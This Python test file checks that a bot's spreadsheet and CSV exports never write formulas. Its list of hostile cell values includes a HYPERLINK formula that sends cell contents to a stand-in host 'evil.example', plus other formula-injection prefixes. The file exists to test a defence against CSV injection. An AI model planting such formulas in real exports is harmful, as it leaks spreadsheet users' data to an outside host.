"""Files the bot writes: only services/tables.py builds spreadsheets and CSV, and it never writes
a formula, whatever a user, a roster or a bank typed."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl

from core.i18n import translator
from services.tables import Column, Table, csv_text, csv_zip, xlsx

ROOT = Path(__file__).resolve().parents[1]
ZH = translator("zh_Hans")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"点我")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "＝1+1",
    "张\x01三",
    "<b>李四</b> & {0}",
]


def test_only_the_table_writer_builds_spreadsheets_and_csv() -> None:
    """Every export goes through services/tables.py (a new writer elsewhere fails here)."""
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("services", "views", "handlers", "jobs", "cli", "demo")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["services/tables.py"], found


def test_hostile_text_is_never_a_formula_and_numbers_stay_numbers() -> None:
    columns = [
        Column("名称"),
        Column("金额", "money"),
        Column("日期", "date"),
        Column("户数", "int"),
    ]
    rows = [[text, Decimal("1234.50"), date(2026, 11, 15), 3] for text in HOSTILE]
    table = Table(columns, rows)
    book = openpyxl.load_workbook(io.BytesIO(xlsx({"=Sheet/1": table}, ZH)))
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = [r[0].value for r in sheet.iter_rows(min_row=2)]
    assert names[0] == HOSTILE[0] and names[6] == "张三"  # text kept, control character dropped
    amounts = [r[1] for r in sheet.iter_rows(min_row=2)]
    assert all(c.value == 1234.5 and c.number_format == "¥#,##0.00" for c in amounts)
    assert all(isinstance(r[2].value, datetime) for r in sheet.iter_rows(min_row=2))
    for text in (csv_text(table, ZH),):
        parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        assert all(
            not cell.startswith(("=", "+", "-", "@", "\t", "＝")) for row in parsed for cell in row
        )
        assert parsed[1][1] == "1234.50" and parsed[1][2] == "2026-11-15"
    assert csv_zip({"a": table}, "x", ZH)[:2] == b"PK"
